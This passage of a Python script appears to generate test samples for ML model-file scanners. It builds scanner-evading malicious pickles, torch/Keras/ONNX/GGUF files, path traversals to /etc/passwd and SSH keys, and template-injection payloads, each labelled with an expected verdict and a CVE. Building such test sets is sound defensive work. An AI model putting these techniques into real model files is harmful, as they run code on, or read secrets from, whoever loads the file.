            out += struct.pack("<IIII", 0x08074b50, crc(data), len(comp), len(data))
        cd += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014b50, 20, 20, flags, meth_, 0, 0x21, crc(data), len(comp), len(data), len(cname), 0, 0, 0, 0, 0, off) + cname
    cdoff = len(out)
    out += cd
    n = len(entries)
    out += struct.pack("<IHHHHIIH", 0x06054b50, 0, 0, n, n, len(cd), cdoff, len(comment)) + comment
    return bytes(out)

benign_pkl = pkl({"w": 1.0, "b": 0.0}, 2)
evil = pkl(C(G("posix", "system"), CMD), 2)
tver = {"name": "archive/version", "data": b"3\n"}
write("torchzip_basic.pt", rawzip([{"name": "archive/data.pkl", "data": evil}, tver]), "torch zip, malicious data.pkl (control)", "control")
write("torchzip_unexpected_folder.pt", rawzip([{"name": "weights_v2/x/data.pkl", "data": evil}, {"name": "weights_v2/x/version", "data": b"3\n"}]), "data.pkl in unexpected folder", "zip tricks")
write("torchzip_renamed_pickle.pt", rawzip([{"name": "archive/model.bin", "data": evil}, {"name": "archive/data/0", "data": b"\0" * 8}, tver]), "pickle under another name in zip", "zip tricks", expected="suspicious")
write("torchzip_duplicate_names.pt", rawzip([{"name": "archive/data.pkl", "data": benign_pkl}, {"name": "archive/data.pkl", "data": evil}, tver]), "duplicate member names (last wins)", "zip tricks")
write("torchzip_local_central_mismatch.pt", rawzip([{"name": "archive/data.pkl", "cname": "archive/data.pkl", "data": benign_pkl, "ldata": evil}, tver]),
      "local data differs from CRC/central (mismatched headers)", "zip tricks", expected="suspicious")
write("torchzip_local_name_mismatch.pt", rawzip([{"name": "archive/readme.txt", "cname": "archive/data.pkl", "data": evil}, tver]), "local name != central name", "zip tricks")
write("torchzip_deflated.pt", rawzip([{"name": "archive/data.pkl", "data": evil, "method": 8}, tver]), "deflated data.pkl", "zip tricks")
write("torchzip_data_descriptor.pt", rawzip([{"name": "archive/data.pkl", "data": evil, "flags": 8}, tver]), "data descriptor, zero sizes in local header", "issue 9 (data descriptors)")
write("torchzip_prefixed_junk.pt", rawzip([{"name": "archive/data.pkl", "data": evil}, tver], prefix=b"JUNK" * 64), "zip after 256 bytes of junk", "zip tricks")
write("polyglot_pickle_then_zip.pt", benign_pkl + rawzip([{"name": "archive/data.pkl", "data": evil}, tver]), "legacy pickle + zip polyglot", "issue 9 (polyglot)")
write("polyglot_zip_benign_pickle_evil.pt", evil + rawzip([{"name": "archive/data.pkl", "data": benign_pkl}, tver]), "evil legacy pickle + benign zip polyglot", "issue 9 (polyglot)")
# two central directories: the first EOCD points to a benign cd, a second appended one points to evil
z1 = rawzip([{"name": "archive/data.pkl", "data": benign_pkl}, tver])
z2 = rawzip([{"name": "archive/data.pkl", "data": evil}, tver])
write("zip_second_central_directory.pt", z1 + z2, "two zips/central directories concatenated", "issue 9 (second central directory)")
# ZIP64 end records
def zip64(entries):
    z = bytearray(rawzip(entries))
    eocd = z.rfind(b"PK\x05\x06")
    _, _, _, n, _, cdsz, cdoff, _ = struct.unpack("<IHHHHIIH", z[eocd:eocd + 22])
    z64 = struct.pack("<IQHHIIQQQQ", 0x06064b50, 44, 45, 45, 0, 0, n, n, cdsz, cdoff)
    loc = struct.pack("<IIQI", 0x07064b50, 0, eocd, 1)
    return bytes(z[:eocd]) + z64 + loc + struct.pack("<IHHHHIIH", 0x06054b50, 0, 0, 0xffff, 0xffff, 0xffffffff, 0xffffffff, 0)
write("torchzip_zip64.pt", zip64([{"name": "archive/data.pkl", "data": evil}, tver]), "ZIP64 end records", "issue 9 (ZIP64)")
# nested: benign torch zip whose extra member is a pickle
write("torchzip_nested_extra_pickle.pt", rawzip([{"name": "archive/data.pkl", "data": benign_pkl}, {"name": "archive/extra/hook.pkl", "data": evil}, tver]), "extra pickle member inside torch zip", "nested pickle in zip")
# zip inside zip
write("zip_in_zip.zip", rawzip([{"name": "inner.pt", "data": rawzip([{"name": "archive/data.pkl", "data": evil}, tver])}]), "torch zip inside zip", "nesting")
# joblib dump inside a zip
write("zip_with_joblib.zip", rawzip([{"name": "model/model.joblib", "data": zlib.compress(evil)}]), "zlib joblib inside zip", "nesting")
# torch legacy tar
def tar(members):
    b = io.BytesIO()
    with tarfile.open(fileobj=b, mode="w", format=tarfile.USTAR_FORMAT) as t:
        for n, d in members:
            ti = tarfile.TarInfo(n); ti.size = len(d); ti.mtime = 0; t.addfile(ti, io.BytesIO(d))
    return b.getvalue()
write("torch_legacy_tar.pt", tar([("sys_info", pkl({"protocol_version": 1001, "little_endian": True}, 2)), ("pickle", evil), ("storages", pkl(0, 2)), ("tensors", pkl(0, 2))]),
      "PyTorch legacy tar format", "legacy tar")
write("torch_legacy_tar_storages_evil.pt", tar([("sys_info", pkl({"protocol_version": 1001}, 2)), ("pickle", benign_pkl), ("storages", evil), ("tensors", pkl(0, 2))]), "legacy tar, evil storages member", "legacy tar")
write("tar_gz_pickle.tar.gz", gzip_c(tar([("model/model.pkl", evil)])), "pickle inside tar.gz", "nesting")
# torch legacy format: magic number pickle + protocol + sys_info + evil
legacy = pkl(0x1950a86a20f9469cfc6c, 2) + pkl(1001, 2) + pkl({"little_endian": True}, 2) + evil
write("torch_legacy_magic_then_evil.pt", legacy, "legacy torch.save stream, evil main pickle", "legacy")
# 7z signature container with pickle payload (stored, LZMA-less: header only, scanner cannot decode -> inconclusive at least)
write("sevenzip_container.7z", b"7z\xbc\xaf\x27\x1c\x00\x04" + b"\0" * 24 + evil, "7z container (nullifAI-style)", "issue 9 (7z nullifAI)", expected="inconclusive")
# nullifAI: torch zip compressed with 7z isn't reproducible without 7z; broken-pickle variant instead
write("nullifai_broken_after_payload.pt", rawzip([{"name": "archive/data.pkl", "data": evil[:-1] + b"\x00garbage"}, tver]), "payload then broken stream (nullifAI)", "ReversingLabs nullifAI (2025)")

# ---------------------------------------------------------------- 5. Keras
def keras_zip(cfg, method=zipfile.ZIP_DEFLATED, name="model.keras"):
    b = io.BytesIO()
    with zipfile.ZipFile(b, "w", compression=method) as z:
        zws(z, "metadata.json", json.dumps({"keras_version": "3.8.0", "date_saved": "2025-01-01@00:00:00"}))
        zws(z, "config.json", json.dumps(cfg))
        zws(z, "model.weights.h5", TINY_H5)
    return b.getvalue()
import h5py, tempfile
def _tiny_h5():
    with tempfile.TemporaryDirectory() as d:
        p = os.path.join(d, "w.h5")
        with h5py.File(p, "w") as f:
            f.create_group("layers")
        return open(p, "rb").read()
TINY_H5 = _tiny_h5()
fake_code = base64.b64encode(b"\xe3" + b"\0" * 15 + b"mlsec-blind-not-real-marshal").decode()
def layer(cls, cfg, module="keras.layers"):
    return {"module": module, "class_name": cls, "config": cfg, "registered_name": None}
def seq(layers):
    return {"module": "keras", "class_name": "Sequential", "config": {"name": "s", "layers": [layer("InputLayer", {"batch_shape": [None, 4]})] + layers}, "registered_name": None}
lam = layer("Lambda", {"name": "l", "function": {"class_name": "__lambda__", "config": {"code": fake_code, "defaults": None, "closure": None}}, "output_shape": None})
write("keras_lambda.keras", keras_zip(seq([lam])), "Keras 3 Lambda layer", "CVE-2024-3660")
write("keras_lambda_in_timedistributed.keras", keras_zip(seq([layer("TimeDistributed", {"name": "td", "layer": lam})])), "Lambda nested in TimeDistributed", "issue 9 (Lambda in wrappers)")
write("keras_lambda_in_bidirectional.keras", keras_zip(seq([layer("Bidirectional", {"name": "bd", "layer": lam, "backward_layer": lam})])), "Lambda nested in Bidirectional", "issue 9 (Lambda in wrappers)")
write("keras_lambda_in_nested_model.keras", keras_zip(seq([seq([lam])])), "Lambda inside nested Sequential", "issue 9")
write("keras_lambda_bzip2.keras", keras_zip(seq([lam]), zipfile.ZIP_BZIP2), ".keras members bzip2", "issue 9 (bzip2 members)")
write("keras_lambda_lzma.keras", keras_zip(seq([lam]), zipfile.ZIP_LZMA), ".keras members LZMA", "issue 9 (LZMA members)")
write("keras_module_os_system.keras", keras_zip(seq([layer("system", {"command": CMD}, module="os")])), "config module/class_name resolves os.system", "CVE-2025-1550")
write("keras_get_file_layer.keras", keras_zip(seq([{"module": "keras.utils", "class_name": "get_file", "config": {"fname": "x", "origin": URL}, "registered_name": None}])), "get_file as a layer (download)", "CVE-2025-8747")
write("keras_enable_unsafe.keras", keras_zip(seq([{"module": "keras.config", "class_name": "enable_unsafe_deserialization", "config": {}, "registered_name": None}, lam])), "enable_unsafe_deserialization then Lambda", "CVE-2025-9906")
write("keras_stringlookup_file.keras", keras_zip(seq([layer("StringLookup", {"name": "sl", "vocabulary": "/etc/passwd"})])), "StringLookup vocabulary local file", "CVE-2025-12058 / GHSA-qg93-c7p6-gg7f", expected="suspicious")
write("keras_stringlookup_url.keras", keras_zip(seq([layer("StringLookup", {"name": "sl", "vocabulary": "gs://mlsec-blind/vocab.txt"})])), "StringLookup vocabulary remote", "CVE-2025-12058", expected="suspicious")
write("keras_textvectorization_file.keras", keras_zip(seq([layer("TextVectorization", {"name": "tv", "vocabulary": "/tmp/mlsec_blind_vocab.txt"})])), "TextVectorization vocabulary file", "CVE-2025-12058 family", expected="suspicious")
write("keras_tfsmlayer.keras", keras_zip(seq([layer("TFSMLayer", {"name": "t", "filepath": "/tmp/mlsec_blind_savedmodel", "call_endpoint": "serve"})])), "TFSMLayer loads a SavedModel (graph code)", "Keras TFSMLayer advisory (2025)")
write("keras_lambda_renamed.zip", keras_zip(seq([lam])), ".keras Lambda under .zip name", "naming")
import h5py
def h5(name, cfg):
    p = os.path.join(OUT, name)
    with h5py.File(p, "w") as f:
        f.attrs["keras_version"] = "2.15.0"; f.attrs["backend"] = "tensorflow"
        f.attrs["model_config"] = json.dumps(cfg)
        f.create_group("model_weights")
    with open(p, "rb") as fh:
        d = fh.read()
    os.remove(p); return d
lam2 = {"class_name": "Lambda", "config": {"name": "l", "function": [fake_code, None, None], "function_type": "lambda", "output_shape": None}}
write("keras_h5_lambda.h5", h5("a.h5", {"class_name": "Sequential", "config": {"name": "s", "layers": [lam2]}}), "Keras 2 H5 Lambda", "CVE-2024-3660 (H5)")
write("keras_h5_lambda_in_wrapper.h5", h5("b.h5", {"class_name": "Sequential", "config": {"name": "s", "layers": [{"class_name": "TimeDistributed", "config": {"name": "td", "layer": lam2}}]}}), "H5 Lambda nested in TimeDistributed", "issue 9")
write("keras_h5_lambda.hdf5", h5("c.h5", {"class_name": "Model", "config": {"name": "m", "layers": [dict(lam2, name="l", inbound_nodes=[])]}}), "H5 functional Model Lambda (.hdf5)", "CVE-2024-3660")

# ---------------------------------------------------------------- 6. ONNX external data escaping the directory (hand-written protobuf)
def vi(n):
    o = b""
    while True:
        x = n & 0x7f; n >>= 7
        if n: o += bytes([x | 0x80])
        else: return o + bytes([x])
def fld(num, wt, payload):
    k = vi(num << 3 | wt)
    return k + (vi(payload) if wt == 0 else vi(len(payload)) + payload)
def onnx(location):
    ext = fld(1, 2, b"location") + fld(2, 2, location.encode())
    t = fld(1, 0, 4) + fld(2, 0, 1) + fld(8, 2, b"W") + fld(13, 2, ext) + fld(14, 0, 1)
    node = fld(1, 2, b"X") + fld(1, 2, b"W") + fld(2, 2, b"Y") + fld(4, 2, b"Add")
    g = fld(1, 2, node) + fld(2, 2, b"g") + fld(5, 2, t)
    return fld(1, 0, 8) + fld(2, 2, b"mlsec-blind") + fld(7, 2, g) + fld(8, 2, fld(2, 0, 17))
write("onnx_external_dotdot.onnx", onnx("../../../../../etc/passwd"), "ONNX external data ../ escape", "CVE-2024-27318 / CVE-2024-5187 (onnx path traversal)")
write("onnx_external_absolute.onnx", onnx("/etc/shadow"), "ONNX external data absolute path", "CVE-2024-27318")
write("onnx_external_nested_dotdot.onnx", onnx("weights/../../../home/user/.ssh/id_rsa"), "ONNX external data nested ../", "CVE-2022-25882 family")

# ---------------------------------------------------------------- 7. GGUF and safetensors
def gstr(s): b = s.encode(); return struct.pack("<Q", len(b)) + b
def gguf(kvs, ntensors=0, nkv=None):
    body = b"".join(gstr(k) + struct.pack("<I", 8) + gstr(v) for k, v in kvs)
    return b"GGUF" + struct.pack("<IQQ", 3, ntensors, len(kvs) if nkv is None else nkv) + body
ssti1 = "{% set u = '_' * 2 %}{% set g = lipsum | attr(u ~ 'glo' ~ 'bals' ~ u) %}{{ g['o' ~ 's'].popen('echo mlsec-blind').read() }}"
ssti2 = "{{ cycler | attr('\\x5f\\x5finit\\x5f\\x5f') | attr('\\x5f\\x5fglob' ~ 'als\\x5f\\x5f') }}"
ssti3 = "{% for m in messages %}{{ m.content }}{% endfor %}{{ joiner.__init__.__globals__.os.popen('echo mlsec-blind').read() }}"
ssti4 = "{% set a = request|default(namespace) %}{{ (self|attr('_TemplateReference' ~ '_' * 2 ~ 'context')).cycler | attr('_' * 2 ~ 'init' ~ '_' * 2) }}"
base = [("general.architecture", "llama"), ("general.name", "mlsec-blind")]
write("gguf_ssti_no_dunder.gguf", gguf(base + [("tokenizer.chat_template", ssti1)]), "chat template reaches os without literal __/globals", "issue 9; CVE-2024-34359 (llama-cpp-python SSTI)")
write("gguf_ssti_hex_escapes.gguf", gguf(base + [("tokenizer.chat_template", ssti2)]), "chat template with \\x5f escapes", "CVE-2024-34359 family")
write("gguf_ssti_classic.gguf", gguf(base + [("tokenizer.chat_template", ssti3)]), "classic __globals__ template (control)", "CVE-2024-34359")
write("gguf_ssti_concat_attr.gguf", gguf(base + [("tokenizer.chat_template.tool_use", ssti4)]), "named template with concatenated attr", "CVE-2024-34359 family")
write("gguf_oversized_kv_count.gguf", gguf(base, nkv=2**62), "GGUF kv count 2^62", "GGUF parser DoS (ggml GHSA 2024 heap overflows)", expected="suspicious")
write("gguf_oversized_string.gguf", b"GGUF" + struct.pack("<IQQ", 3, 0, 1) + struct.pack("<Q", 2**63 - 1) + b"general.architecture", "GGUF key length 2^63", "ggml GGUF parser overflow (2024)", expected="suspicious")
write("gguf_oversized_tensor_count.gguf", gguf(base, ntensors=2**60), "GGUF tensor count 2^60", "ggml GGUF overflow", expected="suspicious")
def st_(hlen, h):
    return struct.pack("<Q", hlen) + h
write("safetensors_header_huge.safetensors", st_(2**40, b'{"w":{"dtype":"F32","shape":[1],"data_offsets":[0,4]}}'), "header length 1 TiB", "safetensors oversized header (HF advisory 2023/2024)", expected="suspicious")
write("safetensors_header_beyond_file.safetensors", st_(4096, b'{"w":{"dtype":"F32","shape":[1],"data_offsets":[0,4]}}'), "header length beyond file end", "safetensors", expected="suspicious")
write("safetensors_offsets_overflow.safetensors", st_(72, b'{"w":{"dtype":"F32","shape":[4611686018427387904],"data_offsets":[0,18446744073709551615]}}'.ljust(72)), "shape/offset overflow", "safetensors", expected="suspicious")
write("safetensors_pickle_inside.safetensors", pkl(sys_os()), "pickle named .safetensors", "naming")
write("model_weights.bin", pkl(sys_os()), "pickle named pytorch .bin", "naming")
write("model.npy", pkl(sys_os()), "pickle named .npy", "naming")
write("notes.txt", pkl(sys_os(), 2), "pickle named .txt", "naming")


# ---------------------------------------------------------------- 8. attribute paths through innocent modules (protocol 4 dotted names)
A = "dotted attribute path through an innocent module"
pk("dotted_torch_os_system.pkl", C(G("torch", "os.system"), CMD), A, "find_class _getattribute (proto 4 dotted names)")
pk("dotted_posixpath_os_system.pkl", C(G("posixpath", "os.system"), CMD), A, "dotted names")
pk("dotted_pandas_io_common_os.pkl", C(G("pandas.io.common", "os.system"), CMD), A, "dotted names")
pk("dotted_torch_serialization_pickle_loads.pkl", C(G("torch.serialization", "pickle.loads"), b"\x80\x04cos\nsystem\n\x8c\x10echo mlsec-blind\x85R."), A, "dotted names + nested pickle")
pk("dotted_joblib_numpy_pickle_pickle_loads.pkl", C(G("joblib.numpy_pickle", "pickle.loads"), b"\x80\x04cos\nsystem\n\x8c\x10echo mlsec-blind\x85R."), A, "dotted names + nested pickle")
write("dotted_global_opcode_proto4.pkl", b"\x80\x04ctorch\nos.system\n" + enc(CMD) + b"\x85R.", "GLOBAL opcode (not STACK_GLOBAL) with dotted name under protocol 4", "dotted names")
pk("dotted_object_subclasses.pkl", C(G("builtins", "object.__subclasses__")), "object.__subclasses__ walk", "attribute walk", expected="suspicious")
pk("dotted_numpy_reconstruct_self.pkl", C(G("builtins", "getattr"), G("numpy", "core.multiarray._reconstruct.__self__"), "__loader__"), "builtin __self__ to module walk", "attribute walk", expected="suspicious")

# ---------------------------------------------------------------- 9. Python 2 names remapped by fix_imports (protocol < 3)
F = "py2 name remapped by _compat_pickle"
pk("py2_commands_getoutput.pkl", C(G("commands", "getoutput"), CMD), F, "_compat_pickle IMPORT_MAPPING commands->subprocess", proto=2)
pk("py2_urllib2_urlopen.pkl", C(G("urllib2", "urlopen"), URL), F, "urllib2->urllib.request", proto=2)
pk("py2_urllib_urlretrieve.pkl", C(G("urllib", "urlretrieve"), URL, TMP), F, "NAME_MAPPING urllib.urlretrieve", proto=2)
pk("py2_httplib_connection.pkl", C(G("httplib", "HTTPConnection.request"), C(G("httplib", "HTTPConnection"), "127.0.0.1", 9), "GET", "/"), F, "httplib->http.client", proto=2)
pk("py2_cpickle_loads.pkl", C(G("cPickle", "loads"), "\x80\x02cos\nsystem\nq\x00X\x10\x00\x00\x00echo mlsec-blindq\x01\x85q\x02Rq\x03."), F, "cPickle->pickle", proto=2)
pk("py2_socketserver_tcpserver.pkl", C(G("SocketServer", "TCPServer"), ("127.0.0.1", 9), None), F, "SocketServer->socketserver", proto=2)
pk("py2_basehttpserver.pkl", C(G("BaseHTTPServer", "HTTPServer"), ("127.0.0.1", 9), G("SimpleHTTPServer", "SimpleHTTPRequestHandler")), F, "BaseHTTPServer->http.server", proto=2)
pk("py2_thread_start_new_thread.pkl", C(G("thread", "start_new_thread"), G("commands", "getoutput"), (CMD,)), F, "thread->_thread", proto=2)
pk("py2_builtin_reduce.pkl", C(G("__builtin__", "reduce"), G("__builtin__", "getattr"), ["system"], C(G("__builtin__", "__import__"), "os")), F, "NAME_MAPPING __builtin__.reduce", proto=2)
pk("py2_xmlrpclib.pkl", C(G("xmlrpclib", "ServerProxy"), URL), F, "xmlrpclib->xmlrpc.client", proto=2)
pk("py2_anydbm_open.pkl", C(G("anydbm", "open"), TMP, "c"), F, "anydbm->dbm", proto=2, expected="suspicious")

# ---------------------------------------------------------------- 10. gadgets inside the allow-listed data-science stack
L = "allow-listed library gadget"
import pickle as _pickle_for_dumping_only, scipy.stats as _st   # dumping benign objects only; nothing is loaded
def scipy_exec(obj, name, what):
    obj.random_state = 0   # deterministic bytes
    # pickle the BENIGN object, then swap its stored argument-parser source for harmless code (byte edit)
    gen = obj.dist if hasattr(obj, "dist") else obj
    tmpl = gen._parse_arg_template
    raw = _pickle_for_dumping_only.dumps(obj, protocol=2)
    old = tmpl.encode()
    new = ("import os\nos.system('echo mlsec-blind')\n" + tmpl).encode()
    i = raw.index(old)
    assert raw[i - 5:i - 4] == b"X"
    raw = raw[:i - 4] + struct.pack("<I", len(new)) + new + raw[i + len(old):]
    write(name, raw, L, "scipy rv_generic.__setstate__ exec()s the pickled _parse_arg_template (scipy/stats/_distn_infrastructure.py)")
scipy_exec(_st.norm(1, 2), "scipy_frozen_norm_template_exec.pkl", "frozen norm")
scipy_exec(_st.poisson(3), "scipy_frozen_poisson_template_exec.pkl", "frozen poisson")
scipy_exec(_st.gamma, "scipy_gamma_gen_template_exec.pkl", "gamma_gen")
pk("torch_fx_reduce_graph_module.pkl", C(G("torch.fx.graph_module", "reduce_graph_module"), {"_code": "\n\ndef forward(self, x):\n    return x\n", "training": True, "_graphmodule_cls_name": "GraphModule"},
   "import os\nos.system('echo mlsec-blind')\n"), L, "torch.fx GraphModule reducer exec()s import_block + code")
pk("torch_fx_reduce_deploy_graph_module.pkl", C(G("torch.fx.graph_module", "reduce_deploy_graph_module"), None, {"_code": "def forward(self):\n    return 0\n"}, "import os\n"), L, "torch.fx reducer exec", expected="malicious")
inner_zip = rawzip([{"name": "archive/data.pkl", "data": evil}, tver])
pk("torch_storage_load_from_bytes.pkl", C(G("torch.storage", "_load_from_bytes"), inner_zip), L, "torch.storage._load_from_bytes = torch.load(BytesIO(b)) of a nested malicious torch zip")
pk("torch_rebuild_from_type_v2.pkl", C(G("torch._tensor", "_rebuild_from_type_v2"), G("posix", "system"), G("torch", "Tensor"), (CMD,), {}), L, "torch._tensor._rebuild_from_type_v2 calls func(*args)")
pk("torch_rebuild_tensor_hooks.pkl", C(G("torch._utils", "_rebuild_tensor_v2"), C(G("torch", "FloatStorage")), 0, (1,), (1,), False, C(G("collections", "OrderedDict"), [(0, G("posix", "system"))])), L, "backward hook = os.system")
pk("pandas_new_index_memmap.pkl", C(G("pandas.core.indexes.base", "_new_Index"), G("numpy", "memmap"), {"filename": TMP, "mode": "w+", "shape": (1,), "dtype": "uint8"}), L, "pandas _new_Index calls cls.__new__(cls, **d): numpy.memmap creates a file", expected="suspicious")
write("numpy_memmap_newobj_ex.pkl", P(hdr, enc(G("numpy", "memmap")), enc((TMP,)), enc({"mode": "w+", "shape": (1,), "dtype": "uint8"}), b"\x92."), L, "NEWOBJ_EX numpy.memmap(mode=w+) creates a file", expected="suspicious")
write("numpy_memmap_newobj.pkl", P(hdr, enc(G("numpy", "memmap")), enc((TMP, "uint8", "w+", 0, (1,))), b"\x81."), L, "NEWOBJ numpy.memmap(..., 'w+') creates a file", expected="suspicious")
pk("numpy_memmap_reduce.pkl", C(G("numpy", "memmap"), TMP, "uint8", "w+", 0, (1,)), L, "numpy.memmap call creates a file", expected="suspicious")
pk("copyreg_newobj_ex_memmap.pkl", C(G("copyreg", "__newobj_ex__"), G("numpy", "memmap"), (TMP,), {"mode": "w+", "shape": (1,)}), L, "copyreg.__newobj_ex__ numpy.memmap", expected="suspicious")
pk("numpy_open_memmap.pkl", C(G("numpy.lib.format", "open_memmap"), TMP, "w+", "uint8", (1,)), L, "numpy.lib.format.open_memmap writes", expected="suspicious")
pk("numpy_ndarray_tofile.pkl", C(G("numpy", "ndarray.tofile"), C(G("numpy", "zeros"), 1), TMP), L, "ndarray.tofile writes a file", expected="suspicious")
pk("numpy_ndarray_dump.pkl", C(G("numpy", "ndarray.dump"), C(G("numpy", "zeros"), 1), TMP), L, "ndarray.dump writes a pickle file", expected="suspicious")
pk("numpy_methods_dump.pkl", C(G("numpy.core._methods", "_dump"), C(G("numpy", "zeros"), 1), TMP), L, "numpy.core._methods._dump writes", expected="suspicious")
pk("numpy_save.pkl", C(G("numpy", "save"), TMP, C(G("numpy", "zeros"), 1)), L, "numpy.save writes", expected="suspicious")
pk("numpy_genfromtxt_url.pkl", C(G("numpy", "genfromtxt"), URL), L, "numpy.genfromtxt fetches URLs (DataSource)", expected="suspicious")
pk("numpy_extbuild.pkl", C(G("numpy.testing._private.extbuild", "build_and_import_extension"), "mlsec_blind", [("f", "return NULL;")]), L, "numpy compiles and imports C")
pk("joblib_strided_from_memmap.pkl", C(G("joblib._memmapping_reducer", "_strided_from_memmap"), TMP, "uint8", "w+", 0, "C", (1,), (1,), 1, False), L, "joblib memmap reducer mode w+ creates a file", expected="suspicious")
pk("joblib_make_memmap.pkl", C(G("joblib.backports", "make_memmap"), TMP, "uint8", "w+", 0, (1,)), L, "joblib make_memmap w+", expected="suspicious")
ndw = P(b"\x80\x02", enc(G("joblib.numpy_pickle_compat", "NDArrayWrapper"), 2), b")\x81", enc({"filename": "../../../../tmp/mlsec_blind_companion.npy", "subclass": G("numpy", "ndarray"), "allow_mmap": False}, 2), b"b.")
write("joblib_ndarraywrapper_companion_dotdot.pkl", ndw, L, "legacy joblib NDArrayWrapper: np.load(allow_pickle=True) of a companion file named with ..", expected="malicious")
zndw = P(b"\x80\x02", enc(G("joblib.numpy_pickle_compat", "ZNDArrayWrapper"), 2), b")\x81", enc({"filename": "../../etc/mlsec_blind.z", "init_args": (G("numpy", "ndarray"), (0,), b"b"), "state": None}, 2), b"b.")
write("joblib_zndarraywrapper_companion_dotdot.pkl", zndw, L, "legacy joblib ZNDArrayWrapper companion file with ..", expected="suspicious")
fakecode = (0, 0, 0, 0, 1, 3, b"d\x00S\x00", (None,), (), (), "<x>", "f", "f", 1, b"", b"", (), ())
pk("joblib_cloudpickle_code.pkl", C(C(C(G("joblib.externals.cloudpickle.cloudpickle", "_builtin_type"), "FunctionType"), C(C(G("joblib.externals.cloudpickle.cloudpickle", "_builtin_type"), "CodeType"), *fakecode), {})),
   L, "joblib's vendored cloudpickle builds a code object and a function, then calls it")
pk("joblib_cloudpickle_make_function.pkl", C(G("joblib.externals.cloudpickle.cloudpickle", "_make_function"), C(C(G("joblib.externals.cloudpickle.cloudpickle", "_builtin_type"), "CodeType"), *fakecode), {"__builtins__": G("builtins", "__dict__")}, "f", None, None), L, "cloudpickle _make_function")
pk("joblib_numpy_pickle_load.pkl", C(G("joblib.numpy_pickle", "load"), TMP), L, "joblib.numpy_pickle.load nested")
pk("joblib_compat_load.pkl", C(G("joblib.numpy_pickle_compat", "load_compatibility"), TMP), L, "joblib legacy loader nested")
pk("joblib_parallel_call.pkl", C(C(G("joblib", "Parallel"), 1), [(G("posix", "system"), (CMD,), {})]), L, "joblib.Parallel()([(func,args,kw)]) calls func")
pk("statsmodels_load_pickle.pkl", C(G("statsmodels.iolib.smpickle", "load_pickle"), TMP), L, "statsmodels load_pickle nested")
pk("statsmodels_results_load.pkl", C(G("statsmodels.base.model", "LikelihoodModelResults.load"), TMP), L, "statsmodels Results.load nested")
pk("statsmodels_clear_data_home.pkl", C(G("statsmodels.datasets.utils", "clear_data_home"), "/tmp/mlsec_blind_nonexistent"), L, "statsmodels clear_data_home = shutil.rmtree")
pk("statsmodels_webdoc.pkl", C(G("statsmodels.tools.web", "webdoc")), L, "statsmodels webdoc opens a browser", expected="suspicious")
pk("statsmodels_get_rdataset.pkl", C(G("statsmodels.datasets.utils", "get_rdataset"), "x", "y", URL), L, "statsmodels fetches a URL", expected="suspicious")
pk("statsmodels_formula_eval.pkl", C(G("statsmodels.formula.api", "ols"), "y ~ I(__import__('os').system('echo mlsec-blind'))", {"y": [1.0, 2.0]}), L, "statsmodels formula -> patsy eval")
pk("patsy_dmatrix_eval.pkl", C(G("patsy.highlevel", "dmatrix"), "I(__import__('os').system('echo mlsec-blind'))", {}), L, "patsy evaluates formula terms")
pk("patsy_evalenv_eval.pkl", C(G("patsy.eval", "EvalEnvironment.eval"), C(G("patsy.eval", "EvalEnvironment"), [{}]), "__import__('os').system('echo mlsec-blind')"), L, "patsy EvalEnvironment.eval")
pk("sklearn_clear_data_home.pkl", C(G("sklearn.datasets", "clear_data_home"), "/tmp/mlsec_blind_nonexistent"), L, "sklearn clear_data_home = shutil.rmtree")
pk("sklearn_get_data_home.pkl", C(G("sklearn.datasets._base", "get_data_home"), "/tmp/mlsec_blind_dir"), L, "sklearn get_data_home makedirs", expected="suspicious")
pk("sklearn_assert_run_python_script.pkl", C(G("sklearn.utils._testing", "assert_run_python_script"), PY), L, "sklearn test helper runs Python in a subprocess")
pk("sklearn_load_svmlight.pkl", C(G("sklearn.datasets", "load_svmlight_file"), "/etc/passwd"), L, "sklearn reads a file", expected="suspicious")
pk("sklearn_dump_svmlight.pkl", C(G("sklearn.datasets", "dump_svmlight_file"), [[1.0]], [1], TMP), L, "sklearn writes a file", expected="suspicious")
pk("scipy_decorator_functionmaker.pkl", C(C(G("scipy._lib.decorator", "FunctionMaker.create"), "f()", "return __import__('os').system('echo mlsec-blind')", {})), L, "scipy vendored decorator exec()s a body")
pk("scipy_netcdf_write.pkl", C(G("scipy.io", "netcdf_file"), TMP, "w"), L, "scipy netcdf_file mode w creates a file", expected="suspicious")
pk("scipy_fortranfile_write.pkl", C(G("scipy.io", "FortranFile"), TMP, "w"), L, "scipy FortranFile mode w", expected="suspicious")
pk("scipy_savemat.pkl", C(G("scipy.io", "savemat"), TMP, {}), L, "scipy savemat writes", expected="suspicious")
pk("scipy_pytesttester.pkl", C(C(G("scipy._lib._testutils", "PytestTester"), "scipy"), "fast", 1, ["-p", "mlsec_blind_plugin"]), L, "scipy PytestTester runs pytest (imports plugins)")
pk("pandas_tester_test.pkl", C(G("pandas.util._tester", "test"), ["-p", "mlsec_blind_plugin"]), L, "pandas.test runs pytest (imports plugins)")
pk("pandas_pickle_compat_loads.pkl", C(G("pandas.compat.pickle_compat", "loads"), b"\x80\x04cos\nsystem\n\x8c\x10echo mlsec-blind\x85R."), L, "pandas pickle_compat.loads nested")
pk("pandas_io_pickle_read.pkl", C(G("pandas.io.pickle", "read_pickle"), TMP), L, "pandas.io.pickle.read_pickle nested")
pk("pandas_get_handle_write.pkl", C(G("pandas.io.common", "get_handle"), TMP, "w"), L, "pandas get_handle opens for write", expected="suspicious")
pk("pandas_dataframe_to_pickle.pkl", C(G("pandas.core.frame", "DataFrame.to_pickle"), C(G("pandas.core.frame", "DataFrame")), TMP), L, "DataFrame.to_pickle writes", expected="suspicious")
pk("pandas_read_json_url.pkl", C(G("pandas", "read_json"), URL), L, "pandas.read_json fetches", expected="suspicious")
pk("pandas_apply_if_callable.pkl", C(G("pandas.core.common", "apply_if_callable"), G("posix", "system"), CMD), L, "pandas apply_if_callable calls its argument")
pk("xgboost_booster_save_model.pkl", C(G("xgboost.core", "Booster.save_model"), C(G("xgboost.core", "Booster")), TMP), L, "Booster.save_model writes", expected="suspicious")
pk("xgboost_rabit_tracker.pkl", C(G("xgboost.tracker", "RabitTracker"), "127.0.0.1", 1), L, "xgboost RabitTracker binds a socket", expected="suspicious")
pk("xgboost_dmatrix_file.pkl", C(G("xgboost.core", "DMatrix"), "/etc/passwd?format=csv"), L, "xgboost DMatrix reads a file", expected="suspicious")
pk("torch_collect_env_run.pkl", C(G("torch.utils.collect_env", "run"), CMD), L, "torch.utils.collect_env.run = subprocess shell")
pk("torch_testing_shell.pkl", C(G("torch.testing._internal.common_utils", "shell"), ["echo", "mlsec-blind"]), L, "torch test helper shell()")
